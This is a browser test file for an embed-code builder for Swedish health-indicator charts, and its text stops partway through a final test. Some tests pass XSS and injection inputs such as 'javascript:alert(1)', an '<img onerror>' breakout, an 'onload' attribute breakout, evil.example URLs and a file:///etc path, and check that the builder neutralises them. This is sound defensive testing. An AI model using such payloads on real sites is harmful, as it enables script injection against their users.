/** The embed builder: what is chosen is what is shown, what is copied, and what stands in the address. */
import { expect } from 'chai';
import { axeViolations } from '../elements/support/axe.js';
import { emulateMedia, sendKeys } from '../elements/support/browser.js';
import { builtManifest } from '../elements/support/embedded.js';
import { elements, type SharedElement } from '../elements/support/every-element.js';
import { openDemo, type Page } from '../elements/support/page.js';
import { serveFeed } from '../elements/support/server.js';
import { headingOf, loaded, textOf, until } from '../elements/support/stage.js';

const TAGS = elements.map(({ tag }) => tag);
const COMPARISON = '#src=fixtures/valid/mangbesokare-kommuner.json&element=municipality-comparison&area=0680&compare=none&--indicator-own=%23a00060';

let page: Page;
afterEach(() => page.close());

const control = (selector: string): HTMLInputElement => page.document.querySelector<HTMLInputElement>(selector)!;
const shown = (): SharedElement | null => page.document.querySelector<SharedElement>(`.screen > :is(${TAGS.join()})`);
const codes = (): string[] => [...page.document.querySelectorAll('.code pre')].map((pre) => pre.textContent);
const offered = (): string[] => [...page.document.querySelectorAll<HTMLInputElement>('[name=element]')].filter((radio) => radio.checkVisibility()).map(({ value }) => value);

/** Waits until what is asked for is shown, and its code written. */
async function ready(tag?: string): Promise<SharedElement> {
  const element = await until(tag ?? 'an element', () => {
    const now = shown();
    return now && (!tag || now.localName === tag) && (now.complete || now.matches(':state(failed)')) ? now : null;
  });
  await until('the code', () => codes().length > 0);
  return element;
}

async function open(hash = '', more: { strict?: boolean; width?: number; query?: string } = {}): Promise<void> {
  page = await openDemo({ page: 'builder.html', hash, ...more });
  await ready();
}

function choose(name: string, value: string): void {
  const radio = control(`[name="${name}"][value="${CSS.escape(value)}"]`);
  if (radio) radio.click();
  else {
    const field = control(`[name="${name}"]`);
    field.value = value;
    field.dispatchEvent(new page.window.Event('input', { bubbles: true }));
    field.dispatchEvent(new page.window.Event('change', { bubbles: true }));
  }
}

describe('the embed builder', () => {
  it('shows every chart that it offers of every feed, and breaks no line of its strict policy', async () => {
    await open();
    const seen = new Set<string>();
    for (const { value: feed } of page.document.querySelectorAll<HTMLOptionElement>('[name=src] option:not([value=other])')) {
      choose('src', feed);
      await until(feed, () => shown()?.src === feed);
      for (const tag of offered()) {
        choose('element', tag);
        const element = await ready(tag);
        expect(element.matches(':state(failed), :state(empty)'), `${feed} ${tag}`).to.equal(false);
        seen.add(tag);
      }
    }
    expect([...seen]).to.have.members(TAGS);
    expect(page.trouble).to.deep.equal([]);
  });

  it('lists the feeds of the catalogue beside it after its own, each once, and shows them', async () => {
    await open('#src=fixtures/valid/kvartal.json');
    const { feeds } = (await (await fetch('/__strict__/catalogue.json')).json()) as { feeds: { address: string; title: string | { sv: string } }[] };
    const options = [...page.document.querySelectorAll<HTMLOptionElement>('[name=src] option')].map(({ value, text }) => [value, text] as const);
    const own = ['mangbesokare', 'mangbesokare-kommuner', 'antibiotika', 'mal-och-handelser', 'samverkan', 'sjalvskattning', 'samverkanstrappan'].map((name) => `fixtures/valid/${name}.json`);
    const others = feeds.filter(({ address }) => !own.includes(address));
    expect(others.length).to.equal(feeds.length - own.length).and.above(5);
    expect(options.map(([value]) => value)).to.deep.equal([...own, ...others.map(({ address }) => address), 'other']);
    expect(options.slice(own.length, -1).map(([, text]) => text)).to.deep.equal(others.map(({ title }) => (typeof title === 'string' ? title : title.sv)));
    expect(shown()!.src).to.equal('fixtures/valid/kvartal.json');
    expect(textOf(page.document.querySelector('#catalogue-trouble'))).to.equal('');
    expect(page.trouble).to.deep.equal([]);
  });

  it('chooses a feed of a catalogue by keyboard, and remembers it', async () => {
    await open('#src=fixtures/valid/samverkanstrappan.json');
    page.window.focus();
    control('[name=src]').focus();
    await sendKeys({ press: 'ArrowDown' });
    await until('the first of the catalogue', () => shown()?.src === 'fixtures/valid/arsvis.json');
    await ready('indicator-trend');
    expect(page.window.location.hash).to.contain('arsvis.json');
    await sendKeys({ press: 'ArrowDown' });
    await until('the next', () => shown()?.src === 'fixtures/valid/brus.json');
  });

  it('lists the catalogue that its address asks for, by addresses as that has them', async () => {
    const feed = await serveFeed({ json: await (await fetch('/__strict__/fixtures/valid/skift.json')).json() });
    const { url } = await serveFeed({ json: { format: 'indicator-catalogue/1', feeds: [
      { address: feed.url.replace(/.*__feeds__/, '..'), title: { en: 'Falls' } },
      { address: '/__strict__/fixtures/valid/skift.json', title: '<b>Fall</b>' },
      { address: 'javascript:alert(1)', title: 'No' }, { address: 'https://me:you@evil.example/a.json', title: 'No' }, { title: 'No' }, { address: 'a.json' }, null, 7,
    ] } });
    await open('', { query: `catalogue=${encodeURIComponent(url)}` });
    const options = [...page.document.querySelectorAll<HTMLOptionElement>('[name=src] option')].map(({ value, text }) => [value, text]);
    expect(options.slice(7, -1)).to.deep.equal([[new URL(feed.url, location.href).href, 'Falls'], ['fixtures/valid/skift.json', '<b>Fall</b>']]);
    choose('src', options[7]![0]!);
    await until('the feed', () => shown()?.src === new URL(feed.url, location.href).href);
    await ready('indicator-trend');
    expect(page.trouble).to.deep.equal([]);
  });

  for (const [why, answer, says] of [
    ['is not there', { status: 404 }, /Katalogen kunde inte läsas: servern svarar 404/],
    ['is no JSON', { body: '{' }, /det är inte JSON/],
    ['is a feed', { json: { format: 'indicator-feed/1', feeds: [] } }, /det är ingen katalog/],
    ['is nothing', { json: null }, /det är ingen katalog/],
  ] as const) {
    it(`says in Swedish that a catalogue that was asked for ${why}, and goes on with its own feeds`, async () => {
      const { url } = await serveFeed(answer);
      await open('', { query: `catalogue=${encodeURIComponent(url)}` });
      expect(textOf(page.document.querySelector('#catalogue-trouble'))).to.match(says);
      expect(page.document.querySelectorAll('[name=src] option')).to.have.length(8);
      expect(shown()!.src).to.equal('fixtures/valid/mangbesokare.json');
      expect(page.trouble).to.deep.equal([]);
    });
  }

  it('asks for no catalogue at an address that is none of the web', async () => {
    await open('', { query: 'catalogue=javascript:alert(1)' });
    expect(textOf(page.document.querySelector('#catalogue-trouble'))).to.match(/ska börja med https/);
    expect(page.trouble).to.deep.equal([]);
  });

  it('offers those alone that the feed has numbers for', async () => {
    await open('#src=fixtures/valid/samverkanstrappan.json');
    expect(offered()).to.deep.equal(['collaboration-ladder']);
    expect(page.document.querySelector('[data-field=group]')!.checkVisibility()).to.equal(true);
    expect(page.document.querySelector('[data-field=analysis]')!.checkVisibility()).to.equal(false);
  });

  it('offers a funnel of what is counted, and not of what is asked', async () => {
    const views = (): string[] => [...control('[name=view]').querySelectorAll('option')].map(({ value }) => value);
    await open('#src=fixtures/valid/mangbesokare-kommuner.json&element=municipality-comparison');
    expect(views()).to.deep.equal(['', 'funnel', 'trends', 'table']);
    page.close();
    await open('#src=fixtures/valid/esthers-upplevelse.json&element=municipality-comparison');
    expect(views()).to.deep.equal(['', 'trends', 'table']);
  });

  it('offers of a feed what the element can show: periods, groups, views, and a choice where there is no total', async () => {
    const years = [4, 5].map((value, i) => ({ indicator: 'plans', period: `${2024 + i}`, value }));
    const months = [{ indicator: 'visits', period: '2025-05', value: 3 }];
    const areas = ['0604', '0680'].map((code) => ({ code, name: code, level: 'municipality' }));
    const steps = ['a', 'b'].map((id) => ({ id, label: id }));
    const of = (id: string, many: number, total?: string) => ({ id, label: `Enligt ${id}`, ...(total && { total }), categories: Array.from({ length: many }, (_, i) => ({ id: `${id}-${i}`, label: `${id} ${i}` })) });
    const { url } = await serveFeed({
      cors: true,
      json: {
        format: 'indicator-feed/1',
        areas,
        dimensions: [of('unit', 6, 'unit-0'), of('age', 4, 'age-0'), of('sex', 2)],
        indicators: [
          { id: 'plans', label: 'Planer', kind: 'count', granularity: 'year' },
          { id: 'visits', label: 'Besök', kind: 'count', granularity: 'month' },
          { id: 'ladder', label: 'Trappan', kind: 'distribution', granularity: 'year', categories: steps },
        ],
        observations: [
          ...[...years, ...months].flatMap((row) => areas.flatMap(({ code }) => ['sex-0', 'sex-1'].map((sex) => ({ ...row, area: code, unit: 'unit-0', age: 'age-0', sex })))),
          ...steps.flatMap(({ id }) => ['sex-0', 'sex-1'].map((sex) => ({ indicator: 'ladder', area: '0604', period: '2023', category: id, value: 4, unit: 'unit-0', age: 'age-0', sex }))),
        ],
      },
    });
    const options = (name: string): string[] => [...control(`[name=${name}]`).querySelectorAll('option')].map(({ value }) => value);
    const chosen = new URLSearchParams({ src: 'other', address: url, element: 'municipality-comparison', compare: 'none' });
    await open(`#${chosen.toString()}`, { strict: false });
    expect(shown()!.matches(':state(failed), :state(empty)')).to.equal(false);
    expect(options('period')).to.deep.equal(['', '2025', '2024']);
    expect(options('view')).to.deep.equal(['', 'trends', 'table']);
    expect(options('filter')).to.deep.equal(['sex=sex-0', 'sex=sex-1']);
    expect(codes().join()).to.contain('filter="sex=sex-0"');
    choose('indicator', 'visits');
    await until('the months', () => options('period').join() === ',2025-05');
    expect(options('view')).to.deep.equal(['', 'table']);
    choose('element', 'collaboration-ladder');
    await ready('collaboration-ladder');
    expect(options('period')).to.deep.equal(['', '2023']);
    expect(options('group')).to.deep.equal(['', 'age', 'sex']);
    page.close();
    await open('#src=fixtures/valid/samverkanstrappan.json');
    expect(control('[name=filter]').checkVisibility()).to.equal(false);
  });

  it('keeps what was chosen when the reader skips to the code', async () => {
    await open(COMPARISON);
    const { hash } = page.window.location;
    page.document.querySelector<HTMLElement>('.skip')!.click();
    expect(page.document.activeElement!.id).to.equal('koden');
    expect(page.window.location.hash).to.equal(hash);
    expect(codes().join('')).to.contain('area="0680"');
  });

  it('gives a script block that holds the hash, and a tag that shows the same', async () => {
    await open(COMPARISON);
    const { files, words, pictures } = await builtManifest();
    const [script, tag, css] = codes();
    const made = new DOMParser().parseFromString(`${script}${tag}`, 'text/html');
    const [early, late] = [words['municipality-comparison']!, pictures['municipality-comparison:not([view=funnel], [view=trends])']!.filter((file) => !words['municipality-comparison']!.includes(file))];
    const links = [...made.querySelectorAll('link')];
    expect(links.map(({ rel, href, integrity, crossOrigin, fetchPriority }) => [rel, href.split('/').at(-1), integrity, crossOrigin, fetchPriority])).to.deep.equal(
      [...early, ...late].map((file) => ['modulepreload', `${file}#checked`, files[file]!.integrity, 'anonymous', late.includes(file) ? 'low' : 'auto']),
    );
    for (const { href } of links) expect((await fetch(href)).status).to.equal(200);
    expect(made.querySelector('script')!.integrity).to.equal(files['indicator-elements.js']!.integrity);
    expect(made.querySelector('script')!.crossOrigin).to.equal('anonymous');
    expect((await fetch(made.querySelector('script')!.src)).status).to.equal(200);
    const element = made.querySelector('municipality-comparison')!;
    expect(Object.fromEntries([...element.attributes].map(({ name, value }) => [name, value]))).to.deep.equal({
      src: new URL('/__strict__/fixtures/valid/mangbesokare-kommuner.json', location.href).href,
      area: '0680',
      compare: 'none',
    });
    expect(textOf(element)).to.equal(`${headingOf(shown()!)}: hämta siffrorna`);
    expect(css).to.match(/^municipality-comparison \{\n {2}--indicator-own: #a00060;\n\}$/);
  });

  it('gives a frame block that shows the same, and the host script with its hash', async () => {
    await open(`${COMPARISON}&way=frame`);
    const { files } = await builtManifest();
    const made = new DOMParser().parseFromString(codes().join(''), 'text/html');
    expect(made.querySelector('script')!.integrity).to.equal(files['embed-host.js']!.integrity);
    const frame = document.importNode(made.querySelector('iframe')!, true);
    expect(frame.title).to.equal(headingOf(shown()!));
    frame.loading = 'eager';
    const here = new Promise((done) => frame.addEventListener('load', done, { once: true }));
    document.body.append(frame);
    try {
      await here;
      const element = frame.contentDocument!.querySelector<SharedElement>('municipality-comparison')!;
      await loaded(element);
      expect(headingOf(element)).to.equal(headingOf(shown()!));
      expect([element.area, element.getAttribute('compare')]).to.deep.equal(['0680', 'none']);
      expect(frame.contentDocument!.documentElement.style.getPropertyValue('--indicator-own')).to.equal('#a00060');
    } finally {
      frame.remove();
    }
  });

  it('gives the tag and the command for a page without JavaScript', async () => {
    await open(`${COMPARISON}&way=page`);
    const { files } = await builtManifest();
    const [link, tag, command] = codes();
    const made = new DOMParser().parseFromString(`${link}${tag}`, 'text/html');
    const { href, integrity, crossOrigin } = made.querySelector('link')!;
    expect((await fetch(href, { integrity })).status).to.equal(200);
    expect([integrity, crossOrigin]).to.deep.equal([files['snapshot.css']!.integrity, 'anonymous']);
    expect(made.querySelector('municipality-comparison')!.getAttribute('area')).to.equal('0680');
    expect(command).to.equal('npx --no-install indicator-snapshot sida.html');
  });

  it('gives the command for plain content where a system strips templates, and asks that in no other way', async () => {
    await open(COMPARISON);
    expect(control('[name=light]').checkVisibility()).to.equal(false);
    choose('way', 'page');
    await until('the question', () => control('[name=light]').checkVisibility());
    control('[name=light]').click();
    await until('the command', () => codes().includes('npx --no-install indicator-snapshot --light sida.html'));
    const { hash } = page.window.location;
    page.close();
    await open(hash);
    expect(codes()).to.include('npx --no-install indicator-snapshot --light sida.html');
    expect(control('[name=light]').checked).to.equal(true);
  });

  it('says what embed.html has to allow before a frame shows numbers of another server', async () => {
    await open(`${COMPARISON}&way=frame`);
    const said = (): string => textOf(page.document.querySelector('#frame-trouble'));
    expect(said()).to.equal('');
    choose('published', 'https://siffror.example.org/a.json');
    await until('a word', () => said() !== '');
    expect(said()).to.match(/Skriv till https:\/\/siffror\.example\.org där, efter connect-src\.$/);
    choose('base', 'https://siffror.example.org/delat/');
    await until('silence', () => said() === '');
    choose('base', 'https://www.example.org/delat/');
    await until('a word', () => /efter connect-src, om det inte redan är gjort/.test(said()));
    choose('way', '');
    await until('silence', () => said() === '');
  });

  it('says which choices of its address are not there, until something is chosen', async () => {
    await open('#src=fixtures/valid/mangbesokare.json&element=spider-chart&area=0999&indicator=frequent-ed-visitors&group=b&heading-level=3&scheme=grey&--indicator-own=url(x)');
    const said = (): string => textOf(page.document.querySelector('#lost'));
    expect(said()).to.match(/^Sidans adress ber om val som inte finns här: Diagram ”spider-chart”, Eget område ”0999”, Sidan är ”grey”, Färg: Eget område ”url\(x\)”\./);
    choose('area', '0680');
    await until('silence', () => said() === '');
    const { hash } = page.window.location;
    page.close();
    await open(hash);
    expect(said()).to.equal('');
  });

  it('calls nothing gone that is there, whatever it is called', async () => {
    await open('#src=fixtures/valid/mangbesokare.json&--indicator-own=%23AA0000&--indicator-other=%239A3D78&scheme=light&lang=sv&view=chart&analysis=run&compare=none&heading-level=3&light=x&group=b&sort=value');
    expect(textOf(page.document.querySelector('#lost'))).to.equal('');
    expect(page.document.querySelector<HTMLElement>('.screen')!.style.getPropertyValue('--indicator-own')).to.equal('#aa0000');
  });

  it('names the frame and the fallback by the heading that is shown, as it changes', async () => {
    await open(COMPARISON);
    const usual = headingOf(shown()!);
    for (const way of ['', 'frame', 'page']) {
      choose('way', way);
      choose('heading', 'Min rubrik');
      await until(`${way} with its heading`, () => codes().join('').includes(way === 'frame' ? 'title="Min rubrik"' : '>Min rubrik: hämta siffrorna<'));
      choose('heading', '');
      await until(`${way} with the usual heading`, () => codes().join('').includes(way === 'frame' ? `title="${usual}"` : `>${usual}: hämta siffrorna<`));
    }
    page.window.location.hash = `${COMPARISON}&heading=Ny`;
    await until('the new heading', () => codes().join('').includes('>Ny: hämta siffrorna<'));
  });

  it('remarks on other servers that its address brings into the code, until they are written in the page', async () => {
    const said = (): string => textOf(page.document.querySelector('#brought'));
    await open(`${COMPARISON}&${new URLSearchParams({ way: 'frame', base: 'https://evil.example/', published: 'https://numbers.example/n.json' })}`);
    expect(said()).to.match(/Koden hämtar från https:\/\/evil\.example och https:\/\/numbers\.example, som står i adressen till den här sidan/);
    choose('base', 'https://www.example.se/delat/');
    await until('one of them', () => !said().includes('evil'));
    expect(said()).to.contain('från https://numbers.example, som');
    choose('published', 'https://www.example.se/n.json');
    await until('silence', () => said() === '');
    expect(codes().join('')).to.contain('https://www.example.se/delat/embed.html');
    page.close();
    await open(`${COMPARISON}&${new URLSearchParams({ base: new URL('/delat/', location.href).href, published: 'javascript:alert(1)' })}`);
    expect(said()).to.equal('');
  });

  it('remarks on a feed of another server that its address brings, itself or by a catalogue', async () => {
    const there = new URL('/__strict__/fixtures/valid/skift.json', location.href);
    there.hostname = there.hostname === 'localhost' ? '127.0.0.1' : 'localhost';
    const said = (): string => textOf(page.document.querySelector('#brought'));
    // No page may fetch from there, so that it has no chart; what the code would have is said all the same.
    page = await openDemo({ page: 'builder.html', hash: `#src=${there.href}` });
    await until('a word', () => said().includes(there.origin));
    page.close();
    const { url } = await serveFeed({ json: { format: 'indicator-catalogue/1', feeds: [{ address: there.href, title: 'Fall' }] } });
    await open('', { query: `catalogue=${encodeURIComponent(url)}` });
    expect(said()).to.equal('');
    choose('src', there.href);
    await until('a word', () => said().includes(there.origin));
  });

  it('says nothing of a frame where there is no chart to show', async () => {
    page = await openDemo({ page: 'builder.html', hash: '#src=data:application/json,{}&way=frame' });
    await until('a word', () => /kunde inte läsas/.test(textOf(page.document.querySelector('#trouble'))));
    expect(textOf(page.document.querySelector('#frame-trouble'))).to.equal('');
  });

  it('asks again for what failed, at the next choice or when it begins anew', async () => {
    for (const again of [() => choose('screen', 'phone'), () => (page.window.location.hash += '&way=frame')]) {
      const feed = await serveFeed({ status: 503 }, { file: 'fixtures/valid/skift.json' });
      page = await openDemo({ page: 'builder.html', hash: `#${new URLSearchParams({ src: 'other', address: feed.url })}` });
      await until('a word', () => /servern svarar 503/.test(textOf(page.document.querySelector('#trouble'))));
      again();
      expect((await ready('indicator-trend')).src).to.equal(feed.url);
      expect(textOf(page.document.querySelector('#trouble'))).to.equal('');
      // The page asks, and then the element.
      choose('--indicator-own', '#123456');
      await until('the colour', () => page.window.location.hash.includes('123456'));
      expect((await feed.requests()).length).to.equal(3);
      page.close();
    }
    await open();
  });

  it('takes a feed that its list has no more as another address, and says that it is gone', async () => {
    page = await openDemo({ page: 'builder.html', hash: '#src=fixtures/valid/none.json&area=0680' });
    await until('a word', () => /servern svarar 404/.test(textOf(page.document.querySelector('#trouble'))));
    expect([control('[name=src]').value, control('[name=address]').value]).to.deep.equal(['other', 'fixtures/valid/none.json']);
    expect(shown()).to.equal(null);
    expect(codes()).to.deep.equal([]);
    choose('address', 'fixtures/valid/skift.json');
    await ready('indicator-trend');
  });

  it('writes where the numbers will be in all three ways, and reads them where they are', async () => {
    const published = 'https://www.example.se/feeds/a.json?v=1&k="><b>';
    const written = new URL(published).href;
    await open(COMPARISON);
    const here = new URL('/__strict__/fixtures/valid/mangbesokare-kommuner.json', location.href).href;
    expect(control('[name=published]').value).to.equal(here);
    choose('published', published);
    for (const way of ['', 'page', 'frame']) {
      choose('way', way);
      await until(way, () => codes().join('').includes(way === 'frame' ? '<iframe' : way === 'page' ? 'npx' : '<script') && codes().join('').includes('www.example.se'));
      expect(codes().join('')).to.not.contain('fixtures/');
      const made = new DOMParser().parseFromString(codes().join(''), 'text/html');
      const frame = made.querySelector('iframe');
      expect(frame ? new URL(frame.src).searchParams.get('src') : made.querySelector('municipality-comparison')!.getAttribute('src')).to.equal(written);
      if (!frame) expect(made.querySelector('a')!.href).to.equal(written);
    }
    expect(shown()!.src).to.equal('fixtures/valid/mangbesokare-kommuner.json');
    const { hash } = page.window.location;
    const before = codes();
    page.close();
    await open(hash);
    expect(codes()).to.deep.equal(before);
    choose('src', 'fixtures/valid/antibiotika.json');
    await until('the other feed', () => codes().join('').includes('antibiotika.json'));
    expect(control('[name=published]').value).to.equal(here.replace('mangbesokare-kommuner', 'antibiotika'));
    expect(page.trouble).to.deep.equal([]);
  });

  for (const published of ['javascript:alert(1)', 'data:application/json,{}', 'file:///etc/a.json', '/a.json', 'https://id@evil.example/a.json', '"onload="alert(1)']) {
    it(`puts nothing of numbers at ${published} into the code, and says so`, async () => {
      await open(`#${new URLSearchParams({ published })}`);
      expect(codes().join('')).to.contain(`src="${new URL('/__strict__/fixtures/valid/mangbesokare.json', location.href).href}"`);
      expect(codes().join('')).to.not.match(/evil|alert|\/etc|data:/);
      expect(textOf(page.document.querySelector('#published-trouble'))).to.match(/används inte/);
    });
  }

  it('says that an address of the own computer must be changed, until both are', async () => {
    await open();
    const said = (): string => textOf(page.document.querySelector('#local'));
    expect(said()).to.match(/localhost.*byt/);
    choose('base', 'https://www.example.se/delat/');
    await until('the folder', () => codes().join('').includes('www.example.se/delat'));
    expect(said()).to.match(/localhost/);
    choose('published', 'https://www.example.se/a.json');
    await until('silence', () => said() === '');
    choose('base', 'http://127.0.0.1:8080/');
    await until('a word', () => /localhost/.test(said()));
  });

  it('fetches no address that is still being written', async () => {
    const { url } = await serveFeed({ json: { indicators: [], observations: [] } });
    await open();
    choose('src', 'other');
    await until('the field', () => control('[name=address]').checkVisibility());
    const asked: string[] = [];
    const fetched = page.window.fetch;
    page.window.fetch = (...request) => (asked.push(new Request(...request).url), fetched(...request));
    page.window.focus();
    control('[name=address]').focus();
    // WebKit may still be on its way into the frame, and the first key with it.
    await until('the cursor', () => page.document.hasFocus() && page.document.activeElement === control('[name=address]'));
    await sendKeys({ type: url });
    expect(control('[name=address]').value).to.equal(url);
    // What is drawn meanwhile reads nothing, either.
    choose('scheme', 'dark');
    await until('the colours', () => page.document.querySelector('.screen.dark') !== null);
    expect(asked).to.deep.equal([]);
    await sendKeys({ press: 'Enter' });
    await until('the feed', () => asked.length === 1);
    expect(asked).to.deep.equal([new URL(url, location.href).href]);
  });

  for (const [choice, height] of [
    ['src=fixtures/valid/mangbesokare.json&area=0680', 900],
    ['src=fixtures/valid/mal-och-handelser.json', 900],
    ['src=fixtures/valid/antibiotika.json&area=0680', 900],
    [COMPARISON.slice(1), 1150],
    ['src=fixtures/valid/sjalvskattning.json&area=0680', 1300],
    ['src=fixtures/valid/sjalvskattning.json&area=0680&compare=previous', 1300],
    ['src=fixtures/valid/samverkanstrappan.json&lang=en', 900],
    ['src=fixtures/valid/samverkanstrappan.json&lang=en&group=respondent', 1175],
    ['src=fixtures/valid/samverkanstrappan.json&lang=en&group=respondent&compare=previous', 1450],
    ['src=fixtures/valid/samverkanstrappan.json&lang=en&group=respondent&compare=previous&view=table', 1450],
    ['src=fixtures/valid/mangbesokare.json&area=0680&lang=en&view=table', 1050],
    [`${COMPARISON.slice(1)}&lang=en&view=trends`, 1500],
    [`${COMPARISON.slice(1)}&lang=en&view=table`, 1150],
    [`${COMPARISON.slice(1)}&lang=en`, 1150],
    ['src=fixtures/valid/sjalvskattning.json&area=0680&lang=en&view=dots', 1300],
  ] as const) {
    it(`gives a frame a height that holds all on a phone: ${choice}`, async () => {
      await open(`#${choice}&way=frame`);
      const frame = document.importNode(new DOMParser().parseFromString(codes().join(''), 'text/html').querySelector('iframe')!, true);
      expect(frame.height).to.equal(String(height));
      frame.loading = 'eager';
      // Of 320 px, with 16 px on either side.
      frame.width = '288';
      const here = new Promise((done) => frame.addEventListener('load', done, { once: true }));
      document.body.append(frame);
      try {
        await here;
        const element = await until('the element', () => frame.contentDocument!.querySelector<SharedElement>(TAGS.join()));
        await loaded(element);
        await until('the picture', () => element.complete);
        expect(frame.contentDocument!.documentElement.scrollHeight).to.be.at.most(height);
      } finally {
        frame.remove();
      }
    });
  }

  it('compares no region with itself', async () => {
    await open();
    const options = (name: string): string[][] => [...page.document.querySelectorAll<HTMLOptionElement>(`[name=${name}] option`)].map(({ value, text }) => [value, text]);
    expect(options('compare').slice(0, 2)).to.deep.equal([['', 'Ingenting'], ['hoglandet', 'Höglandet']]);
    expect(options('compare').map(([value]) => value)).to.not.include.members(['parent']);
    choose('area', '0680');
    await until('the area', () => shown()!.area === '0680');
    expect(options('compare')[0]).to.deep.equal(['', 'Regionen']);
    expect(options('compare').map(([value]) => value)).to.include('none').and.to.not.include('0680');
    choose('src', 'fixtures/valid/sjalvskattning.json');
    await until('the feed', () => offered().includes('spider-chart'));
    choose('element', 'spider-chart');
    await ready('spider-chart');
    choose('area', '');
    await until('the region', () => options('compare')[0]?.[1] === 'Ingenting');
  });

  it('offers the areas that a comparison shows as its own, and the region', async () => {
    await open(COMPARISON);
    const areas = [...page.document.querySelectorAll<HTMLOptionElement>('[name=area] option')].map(({ value }) => value);
    expect(areas).to.have.length(14);
    expect(areas[0]).to.equal('');
    expect(areas.slice(1).every((code) => /^\d{4}$/.test(code))).to.equal(true);
    choose('element', 'indicator-trend');
    await ready('indicator-trend');
    expect(page.document.querySelectorAll('[name=area] option').length).to.be.above(14);
  });

  it('begins as a phone on a narrow page, and as a computer on a wide one', async () => {
    for (const [width, phone] of [[320, true], [1000, false]] as const) {
      await open('', { width });
      expect(page.document.querySelector('.screen')!.classList.contains('phone')).to.equal(phone);
      if (phone) page.close();
    }
  });

  it('says in Swedish what to do with an address that does not answer', async () => {
    await open();
    choose('src', 'other');
    // A port that no browser goes to.
    choose('address', 'http://localhost:1/a.json');
    await until('a word', () => /svarar inte.*[Öö]ppna adressen i en egen flik/.test(textOf(page.document.querySelector('#trouble'))));
    expect(textOf(page.document.querySelector('#trouble'))).to.not.match(/fetch/i);
  });

  it('keeps the choice in the address, and comes back to it', async () => {
    await open();
    choose('src', 'fixtures/valid/mangbesokare-kommuner.json');
    // Before its feed has come.
    choose('element', 'municipality-comparison');
    await ready('municipality-comparison');
    choose('area', '0683');
    choose('sort', 'name');
    choose('--indicator-other', '#123456');
    choose('way', 'frame');
    choose('screen', 'phone');
    await until('the area', () => shown()!.area === '0683' && page.window.location.hash.includes('phone'));
    await ready();
    const before = codes();
    const { hash } = page.window.location;
    page.close();
    await open(hash);
    expect(codes()).to.deep.equal(before);
    expect(page.window.location.hash).to.equal(hash);
    expect(page.document.querySelector('.screen')!.classList.contains('phone')).to.equal(true);
  });

  it('begins anew', async () => {
    await open(COMPARISON);
    control('[type=reset]').click();
    await ready('indicator-trend');
    expect(shown()!.getAttribute('area')).to.equal(null);
    expect(page.document.querySelector<HTMLElement>('.screen')!.style.length).to.equal(0);
  });

  it('begins anew with all that it asks, and as another address says', async () => {
    await open();
    const whole = (): string[] => ['way', 'screen'].map((name) => control(`[name=${name}]:checked`).value).concat(['base', 'published'].map((name) => control(`[name=${name}]`).value));
    const first = whole();
    const other = `${COMPARISON}&${new URLSearchParams({ way: 'frame', screen: 'phone', base: 'https://b.example/', published: 'https://b.example/a.json' })}`;
    page.window.location.hash = other;
    await ready('municipality-comparison');
    await until('the frame', () => codes().join('').includes('<iframe'));
    expect(whole()).to.deep.equal(['frame', 'phone', 'https://b.example/', 'https://b.example/a.json']);
    page.window.location.hash = COMPARISON;
    await until('the script', () => codes().join('').includes('<script type="module"'));
    expect(whole()).to.deep.equal([...first.slice(0, 3), first[3]!.replace('mangbesokare', 'mangbesokare-kommuner')]);
    page.window.location.hash = other;
    await until('the frame', () => codes().join('').includes('<iframe'));
    control('[type=reset]').click();
    await ready('indicator-trend');
    await until('the script', () => codes().join('').includes('<script type="module"'));
    expect(whole()).to.deep.equal(first);
    expect(page.trouble).to.deep.equal([]);
  });

  it('writes the fallback in the language of the tag', async () => {
    await open('#src=fixtures/valid/mangbesokare.json&lang=en');
    await until('the heading', () => codes().join('').includes(`${headingOf(shown()!)}: get the numbers</a>`));
  });

  it('is worked by keyboard alone, from the feed to the copied code', async () => {
    await open();
    const copied: string[] = [];
    Object.defineProperty(page.window.navigator, 'clipboard', { value: { writeText: (text: string) => Promise.resolve(void copied.push(text)) } });
    page.window.focus();
    control('[name=src]').focus();
    await sendKeys({ press: 'ArrowDown' });
    await until('the next feed', () => shown()?.src === 'fixtures/valid/mangbesokare-kommuner.json');
    await sendKeys({ press: 'Tab' });
    await sendKeys({ press: 'ArrowRight' });
    await ready('municipality-comparison');
    const focused = (): Element => page.document.activeElement!;
    for (let tabs = 0; tabs < 60 && focused().textContent !== 'Kopiera'; tabs++) {
      await sendKeys({ press: 'Tab' });
      expect(focused().checkVisibility(), focused().outerHTML).to.equal(true);
    }
    await sendKeys({ press: 'Enter' });
    await until('copied', () => copied.length === 1);
    expect(copied[0]).to.equal(codes()[0]);
    await until('what is said', () => textOf(page.document.querySelector('.said')) === 'Kopierat.');
    expect(focused().textContent).to.equal('Kopierat');
    await until('the button as it was', () => focused().textContent === 'Kopiera');
  });

  it('says what is wrong with an address, and with a colour that cannot be seen', async () => {
    await open();
    choose('src', 'other');
    await until('the field', () => control('[name=address]').checkVisibility());
    for (const [address, says] of [['fixtures/none.json', /404/], ['manifest.json', /inte ett flöde/], ['javascript:alert(1)', /kunde inte läsas/]] as const) {
      choose('address', address);
      await until(address, () => says.test(textOf(page.document.querySelector('#trouble'))));
      expect(shown()).to.equal(null);
      expect(codes()).to.deep.equal([]);
    }
    const latin = await serveFeed({ body: '{"indicators": [], "observations": [], "title": "Tranås"}', encoding: 'latin1' });
    choose('address', latin.url);
    await until('a word', () => /inte UTF-8/.test(textOf(page.document.querySelector('#trouble'))));
    choose('address', 'www.example.se/a.json');
    await until('a word', () => /404.*https:\/\//.test(textOf(page.document.querySelector('#trouble'))));
    expect(textOf(page.document.querySelector('#local')), 'a remark on no code').to.equal('');
    choose('address', 'fixtures/valid/skift.json');
    await ready('indicator-trend');
    choose('--indicator-own', '#ffffee');
    await until('a word', () => /Eget område.*kontrast/.test(textOf(page.document.querySelector('#contrast'))));
  });

  it('writes what is in the address as text, and sets nothing that it does not know', async () => {
    const heading = '"><img src=x onerror=alert(1)>';
    await open(`#${new URLSearchParams({ heading, area: '"><b>', '--indicator-own': 'url(/x)', onclick: 'alert(1)', element: 'script', base: 'https://a.example/"onload="' })}`);
    const made = new DOMParser().parseFromString(codes().join(''), 'text/html');
    expect(made.querySelector('img, b, [onerror], [onload], [onclick]')).to.equal(null);
    expect(made.querySelector('indicator-trend')!.getAttribute('heading')).to.equal(heading);
    expect(made.querySelector('indicator-trend')!.getAttributeNames()).to.deep.equal(['src', 'heading']);
    expect(page.trouble).to.deep.equal([]);
  });

  for (const [why, feed, says] of [
    ['an observation that is nothing', { indicators: [{ id: 'a', kind: 'score', label: 'A' }], observations: [null] }, /observations\[0\] ska vara ett objekt/],
